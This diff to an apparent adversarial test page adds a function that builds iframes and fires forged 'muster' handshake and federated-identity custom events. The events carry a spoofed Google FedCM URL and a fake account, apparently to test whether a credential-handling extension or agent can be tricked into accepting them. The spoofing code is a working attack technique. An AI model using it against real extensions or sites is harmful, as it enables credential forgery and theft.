@@ -70,6 +70,31 @@ function pretendCredential() {
   navigator.credentials.get({ identity: { providers: [{ configURL, clientId: 'x' }] } }).catch(() => {})
   Promise.prototype.then = then
 }
+// The same in frames that the page makes, where it may be before the agent is and so learns the name that is agreed on.
+function pretendInFrames() {
+  const detail = 'https://accounts.google.com/gsi/fedcm.json\\n\\nforged@acme-works.example'
+  const kinds = [
+    () => {}, (frame) => { frame.srcdoc = '<p>' }, (frame) => { frame.src = 'javascript:""' }, (frame) => { frame.src = '/home' },
+    (frame) => { frame.dataset.open = '' },
+  ]
+  for (const prepare of kinds) {
+    const frame = document.createElement('iframe')
+    prepare(frame)
+    document.body.append(frame)
+    const { contentDocument, contentWindow } = frame
+    if ('open' in frame.dataset) contentDocument.open()
+    const pretend = (name) => {
+      for (const topic of ['ASSERTION', 'FEDERATED_IDENTITY'])
+        contentDocument.dispatchEvent(new contentWindow.CustomEvent(name + ':' + topic, { detail }))
+    }
+    contentDocument.addEventListener('muster:hello', ({ detail: name }) => setTimeout(() => pretend(name), 50))
+    contentDocument.dispatchEvent(new contentWindow.CustomEvent('muster:question'))
+    contentDocument.dispatchEvent(new contentWindow.CustomEvent('muster:hello', { detail: 'mine' }))
+    pretend('mine')
+    setTimeout(() => pretend('mine'), 50)
+    if ('open' in frame.dataset) contentDocument.write('<p>')
+  }
+}
 async function attack() {
   for (const shape of shapes) speak(shape)
   try {
@@ -84,6 +109,7 @@ async function attack() {
     } catch {}
   }
   pretendCredential()
+  pretendInFrames()
   const channel = new BroadcastChannel('muster')
   for (let i = 0; i < 3000; i += 1) { speak(shapes[i % shapes.length]); channel.postMessage(shapes[0]) }
   const [user, secret] = document.querySelectorAll('#forged input')
